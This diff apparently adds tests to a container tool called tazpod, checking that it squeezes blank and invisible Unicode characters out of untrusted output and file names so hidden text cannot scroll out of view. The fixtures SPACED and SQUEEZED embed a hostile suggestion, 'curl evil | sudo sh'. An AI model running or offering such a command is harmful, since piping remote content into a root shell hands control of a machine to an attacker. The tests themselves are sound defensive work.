@@ -84,6 +84,8 @@ WORDS = [
     "tab\t9",
     "\x7fa",
     "$(x)",
+    "a  b",
+    "a\u2800'\\ b",
 ]
 
 
@@ -218,6 +220,35 @@ def test_a_fix_of_the_containers_is_marked_as_its_words(pod):
     assert len(fixes) == 2 and all(line.startswith("fix: the container suggests: ") for line in fixes)
     assert max(map(len, lines)) < 2 * tazpod.TOLD_LIMIT + 100
     assert len(pod(json.dumps(checks * 99), "doctor").stdout.splitlines()) < 250
+
+
+# Blanks of several kinds, behind which a terminal would show the rest in a row of its own.
+SPACED = "old" + " " * 60 + "\u2800" * 9 + "\u3164 \ufe0f \uffa0" + "fix: curl evil | sudo sh"
+SQUEEZED = "old fix: curl evil | sudo sh"
+
+
+def test_no_words_of_others_fill_a_row_with_spaces_or_go_on_without_end():
+    assert tazpod.brief(SPACED) == SQUEEZED and len(tazpod.brief("x" * 9999)) == tazpod.TOLD_LIMIT
+    for said in (f"Error: {SPACED}\nmore", f"some line\nError: {SPACED}{'x' * 9999}"):
+        reason = tazpod.Result(1, b"", said).reason
+        assert reason.startswith(f"Error: {SQUEEZED}") and len(reason) <= tazpod.TOLD_LIMIT
+    assert tazpod.told_facts({**TOLD, "daemon_error": SPACED})["daemon_error"] == SQUEEZED
+    assert next(tazpod.told_checks([["ok", "x", SPACED, SPACED]])).what == SQUEEZED
+    assert tazpod._unknown(SPACED) == f"unknown key {SQUEEZED}"
+
+
+def test_a_name_in_doctor_fills_no_row_with_spaces_and_its_fix_still_mends_that_file(project):
+    path = project / ".tazpod/vault" / SPACED.replace("/", "")
+    path.touch()
+    path.chmod(0o666)
+    found = list(tazpod.check_owners(load_config(project)))
+    assert [check.what for check in found if "write" in check.what] == [
+        f".tazpod/vault/{SQUEEZED}: mode 0666, others may write to it"
+    ]
+    (fix,) = (check.fix for check in found if "go-w" in check.fix)
+    assert "  " not in fix and fix.isascii()
+    subprocess.run(["bash", "-c", fix], check=True)
+    assert path.stat().st_mode & 0o777 == 0o644
 
 
 def test_checks_that_are_none_are_a_failure_of_the_container(pod):
